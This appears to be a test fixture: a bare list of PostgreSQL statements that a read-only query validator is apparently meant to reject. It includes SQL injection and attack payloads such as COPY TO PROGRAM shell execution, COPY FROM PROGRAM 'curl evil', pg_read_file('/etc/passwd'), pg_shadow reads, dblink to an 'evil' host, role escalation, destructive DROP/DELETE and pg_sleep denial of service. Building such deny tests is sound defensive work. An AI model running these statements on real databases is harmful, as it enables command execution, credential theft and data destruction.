DROP TABLE track
DELETE FROM track
DELETE FROM track RETURNING *
UPDATE track SET name = ''
INSERT INTO genre VALUES (99, 'x')
INSERT INTO genre SELECT 1, 'x' RETURNING *
TRUNCATE track
TRUNCATE track CASCADE
ALTER TABLE track ADD COLUMN x int
ALTER ROLE postgres SUPERUSER
ALTER SYSTEM SET log_statement = 'all'
ALTER DATABASE x SET search_path = 'y'
CREATE TABLE loot AS SELECT * FROM customer
CREATE TEMP TABLE loot AS SELECT 1
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
CREATE EXTENSION dblink
CREATE EXTENSION plpython3u
CREATE ROLE evil SUPERUSER
CREATE VIEW v AS SELECT * FROM secret
CREATE SCHEMA x
CREATE TRIGGER t BEFORE INSERT ON track EXECUTE FUNCTION f()
CREATE RULE r AS ON SELECT TO track DO INSTEAD DELETE FROM track
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
COPY track TO '/tmp/x'
COPY track FROM '/etc/passwd'
COPY (SELECT * FROM track) TO PROGRAM 'sh -c id'
COPY track FROM PROGRAM 'curl evil'
COPY track TO STDOUT
DO $$ BEGIN DELETE FROM track; END $$
DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(9); END $x$
CALL f()
EXECUTE p
PREPARE p AS DELETE FROM track
DEALLOCATE ALL
DISCARD ALL
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET statement_timeout = 0
SET search_path = evil
SET TRANSACTION READ WRITE
RESET ALL
SHOW ALL
SHOW data_directory
BEGIN
BEGIN; DELETE FROM track
COMMIT
COMMIT; DELETE FROM track
ROLLBACK
SAVEPOINT s
LOCK TABLE track
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
VACUUM
VACUUM FULL track
ANALYZE
CLUSTER track
REINDEX TABLE track
REFRESH MATERIALIZED VIEW v
GRANT ALL ON track TO PUBLIC
REVOKE ALL ON track FROM x
REASSIGN OWNED BY a TO b
DROP OWNED BY a
DROP DATABASE x
SECURITY LABEL ON TABLE track IS 'x'
COMMENT ON TABLE track IS 'x'
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
LOAD 'evil'
CHECKPOINT
EXPLAIN SELECT * FROM track
EXPLAIN ANALYZE DELETE FROM track
EXPLAIN (ANALYZE, FORMAT JSON) UPDATE track SET name = ''
DECLARE c CURSOR FOR SELECT * FROM track
FETCH ALL FROM c
MOVE 1 FROM c
CLOSE c
MERGE INTO track USING genre ON true WHEN MATCHED THEN DELETE
SELECT 1; DROP TABLE track
SELECT 1; SELECT 2
; DELETE FROM track
SELECT $$x$$; DELETE FROM track
SELECT $tag$ ; DROP TABLE track; $tag$
SELECT E'\'; DROP TABLE track; --'
SELECT U&'\0027'
SELECT B'101'
SELECT X'1F'
SELECT $1
WITH d AS (DELETE FROM track RETURNING *) SELECT * FROM d
WITH d AS (UPDATE track SET name = '' RETURNING *) SELECT * FROM d
WITH d AS (INSERT INTO genre VALUES (9, 'x') RETURNING *) SELECT * FROM d
WITH d AS (MERGE INTO track USING genre ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM d
WITH a AS (SELECT 1), d AS MATERIALIZED (DELETE FROM track RETURNING name) SELECT 1 FROM a
SELECT * FROM (WITH d AS (DELETE FROM track RETURNING *) SELECT * FROM d) x
WITH d AS (SELECT 1) DELETE FROM track
SELECT * INTO loot FROM customer
SELECT name INTO TEMP loot FROM track
SELECT name INTO UNLOGGED loot FROM track
SELECT * FROM track FOR UPDATE
SELECT * FROM track FOR UPDATE NOWAIT
SELECT * FROM track FOR NO KEY UPDATE
SELECT * FROM track FOR SHARE
SELECT * FROM track FOR KEY SHARE SKIP LOCKED
SELECT * FROM (SELECT * FROM track FOR UPDATE) x
SELECT name FROM track WHERE trackid IN (SELECT trackid FROM track FOR UPDATE)
SELECT * FROM secret
SELECT * FROM public.secret
SELECT name FROM track UNION SELECT word FROM secret
SELECT (SELECT word FROM secret)
SELECT name FROM track WHERE EXISTS (SELECT 1 FROM secret)
WITH track AS (SELECT word AS name FROM secret) SELECT name FROM track
SELECT * FROM track, LATERAL (SELECT * FROM secret) x
SELECT name FROM track ORDER BY (SELECT word FROM secret)
SELECT * FROM pg_user
SELECT * FROM pg_shadow
SELECT * FROM pg_catalog.pg_authid
SELECT * FROM pg_catalog.pg_class
SELECT * FROM pg_stat_activity
SELECT * FROM pg_settings
SELECT * FROM pg_largeobject
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM other.track
SELECT * FROM db.public.track
SELECT * FROM pg_temp.track
SELECT * FROM pg_ls_dir('/')
SELECT * FROM pg_read_file('/etc/passwd')
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
SELECT * FROM json_to_recordset('[]') AS x(a int)
SELECT * FROM ROWS FROM (pg_ls_dir('/')) x
SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS a int)
SELECT * FROM track TABLESAMPLE SYSTEM (10)
SELECT * FROM ONLY track
TABLE track
TABLE secret
SELECT 'pg_shadow'::regclass
SELECT 'pg_sleep'::regproc
SELECT CAST('postgres' AS regrole)
SELECT 1::oid::regclass
SELECT '<x/>'::xml
SELECT name::mytype FROM track
SELECT 1 OPERATOR(pg_catalog.+) 2
SELECT 1 OPERATOR(evil.+) 2
SELECT name ~ '(a+)+$' FROM track
SELECT name ~* 'x' FROM track
SELECT name SIMILAR TO '(a|b)*' FROM track
SELECT @ -5
SELECT |/ 25
SELECT (track).pg_sleep FROM track
SELECT (track.*).name FROM track
SELECT track.pg_typeof FROM track
SELECT ROW(1, 2).f1
SELECT name COLLATE "evil" FROM track
SELECT pg_catalog.pg_sleep(10)
SELECT "pg_sleep"(10)
SELECT PG_SLEEP(10)
SELECT pg_catalog.lower('X')
SELECT evil.lower('X')
SELECT sum(x => 1)
SELECT f(VARIADIC ARRAY[1])
SELECT count(track.*) FROM track
SELECT current_user
SELECT session_user
SELECT user
SELECT current_catalog
SELECT current_schema
SELECT * FROM track WHERE name LIKE ANY (ARRAY['a'])
SELECT DISTINCT ON (pg_sleep(1)) name FROM track
SELECT name FROM track FETCH FIRST 50 PERCENT ROWS ONLY
SELECT name FROM track ORDER BY name USING >
SELECT * FROM track NATURAL JOIN pg_user
SELECT * FROM track t JOIN pg_user u ON true
VALUES (pg_sleep(10))
SELECT name FROM track LIMIT (SELECT count(*) FROM pg_user)
SELECT pg_sleep(10) FROM track
SELECT pg_sleep_for('1 hour') FROM track
SELECT pg_read_file('/etc/passwd') FROM track
SELECT pg_read_binary_file('/etc/passwd') FROM track
SELECT pg_ls_dir('/') FROM track
SELECT pg_ls_waldir() FROM track
SELECT pg_stat_file('/etc/passwd') FROM track
SELECT lo_import('/etc/passwd') FROM track
SELECT lo_export(1, '/tmp/x') FROM track
SELECT lo_create(0) FROM track
SELECT lo_from_bytea(0, 'x') FROM track
SELECT lo_get(1) FROM track
SELECT lo_put(1, 0, 'x') FROM track
SELECT lowrite(1, 'x') FROM track
SELECT dblink('host=evil', 'x') FROM track
SELECT dblink_exec('host=evil', 'x') FROM track
SELECT dblink_connect('host=evil') FROM track
SELECT set_config('a.b', 'c', false) FROM track
SELECT current_setting('data_directory') FROM track
SELECT nextval('s') FROM track
SELECT setval('s', 1) FROM track
SELECT currval('s') FROM track
SELECT lastval() FROM track
SELECT pg_terminate_backend(1) FROM track
SELECT pg_cancel_backend(1) FROM track
SELECT pg_reload_conf() FROM track
SELECT pg_rotate_logfile() FROM track
SELECT pg_switch_wal() FROM track
SELECT pg_create_restore_point('x') FROM track
SELECT pg_promote() FROM track
SELECT pg_advisory_lock(1) FROM track
SELECT pg_try_advisory_lock(1) FROM track
SELECT pg_notify('x', 'y') FROM track
SELECT query_to_xml('DELETE FROM track', true, true, '') FROM track
SELECT query_to_xml_and_xmlschema('x', true, true, '') FROM track
SELECT table_to_xml('pg_shadow', true, true, '') FROM track
SELECT database_to_xml(true, true, '') FROM track
SELECT cursor_to_xml('c', 1, true, true, '') FROM track
SELECT xpath('/x', '<x/>') FROM track
SELECT version() FROM track
SELECT inet_server_addr() FROM track
SELECT pg_backend_pid() FROM track
SELECT pg_postmaster_start_time() FROM track
SELECT has_table_privilege('x', 'y') FROM track
SELECT pg_get_viewdef('x') FROM track
SELECT pg_relation_filepath('track') FROM track
SELECT pg_logical_emit_message(true, 'x', 'y') FROM track
SELECT pg_export_snapshot() FROM track
SELECT txid_current() FROM track
SELECT pg_current_wal_lsn() FROM track
SELECT pg_start_backup('x') FROM track
SELECT pg_file_write('x', 'y', false) FROM track
SELECT pg_extension_config_dump('x', 'y') FROM track
SELECT repeat('x', 1000000000) FROM track
SELECT lpad('x', 1000000000) FROM track
SELECT rpad('x', 1000000000) FROM track
SELECT format('%1000000000s', 'x') FROM track
SELECT regexp_replace(name, '(a+)+$', '') FROM track
SELECT regexp_matches(name, 'x') FROM track
SELECT regexp_split_to_table(name, 'x') FROM track
SELECT convert_from('x', 'UTF8') FROM track
SELECT encode('x', 'hex') FROM track
SELECT decode('x', 'base64') FROM track
SELECT to_tsvector(name) FROM track
SELECT ts_stat('SELECT 1') FROM track
SELECT ts_rewrite('a', 'SELECT 1') FROM track
SELECT binary_upgrade_create_empty_extension('x') FROM track
SELECT brin_summarize_new_values('x') FROM track
SELECT gen_random_uuid() FROM track
SELECT pg_column_size(name) FROM track
SELECT obj_description(1) FROM track
SELECT factorial(100000) FROM track
SELECT my_function(1) FROM track
SELECT Name FROM track WHERE pg_sleep(10) IS NOT NULL
SELECT Name FROM track ORDER BY pg_sleep(10)
SELECT count(*) FROM track GROUP BY pg_sleep(10)
SELECT Name FROM track LIMIT pg_sleep(10)
SELECT (SELECT pg_sleep(10) FROM genre LIMIT 1) FROM track
WITH a AS (SELECT pg_sleep(10) AS x FROM track) SELECT x FROM a
SELECT t.Name FROM track t JOIN genre g ON pg_sleep(10) = g.Name
SELECT CASE WHEN 1 THEN pg_sleep(10) END FROM track
SELECT sum(trackId) OVER (PARTITION BY pg_sleep(10)) FROM track
SELECT upper(pg_sleep(10)) FROM track
SELECT Name FROM track WHERE pg_read_file('/etc/passwd') IS NOT NULL
SELECT Name FROM track ORDER BY pg_read_file('/etc/passwd')
SELECT count(*) FROM track GROUP BY pg_read_file('/etc/passwd')
SELECT Name FROM track LIMIT pg_read_file('/etc/passwd')
SELECT (SELECT pg_read_file('/etc/passwd') FROM genre LIMIT 1) FROM track
WITH a AS (SELECT pg_read_file('/etc/passwd') AS x FROM track) SELECT x FROM a
SELECT t.Name FROM track t JOIN genre g ON pg_read_file('/etc/passwd') = g.Name
SELECT CASE WHEN 1 THEN pg_read_file('/etc/passwd') END FROM track
SELECT sum(trackId) OVER (PARTITION BY pg_read_file('/etc/passwd')) FROM track
SELECT upper(pg_read_file('/etc/passwd')) FROM track
SELECT Name FROM track WHERE set_config('a.b', 'c', false) IS NOT NULL
SELECT Name FROM track ORDER BY set_config('a.b', 'c', false)
SELECT count(*) FROM track GROUP BY set_config('a.b', 'c', false)
SELECT Name FROM track LIMIT set_config('a.b', 'c', false)
SELECT (SELECT set_config('a.b', 'c', false) FROM genre LIMIT 1) FROM track
WITH a AS (SELECT set_config('a.b', 'c', false) AS x FROM track) SELECT x FROM a
SELECT t.Name FROM track t JOIN genre g ON set_config('a.b', 'c', false) = g.Name
SELECT CASE WHEN 1 THEN set_config('a.b', 'c', false) END FROM track
SELECT sum(trackId) OVER (PARTITION BY set_config('a.b', 'c', false)) FROM track
SELECT upper(set_config('a.b', 'c', false)) FROM track
SELECT Name FROM track WHERE lo_export(1, '/tmp/x') IS NOT NULL
SELECT Name FROM track ORDER BY lo_export(1, '/tmp/x')
SELECT count(*) FROM track GROUP BY lo_export(1, '/tmp/x')
SELECT Name FROM track LIMIT lo_export(1, '/tmp/x')
SELECT (SELECT lo_export(1, '/tmp/x') FROM genre LIMIT 1) FROM track
WITH a AS (SELECT lo_export(1, '/tmp/x') AS x FROM track) SELECT x FROM a
SELECT t.Name FROM track t JOIN genre g ON lo_export(1, '/tmp/x') = g.Name
SELECT CASE WHEN 1 THEN lo_export(1, '/tmp/x') END FROM track
SELECT sum(trackId) OVER (PARTITION BY lo_export(1, '/tmp/x')) FROM track
SELECT upper(lo_export(1, '/tmp/x')) FROM track
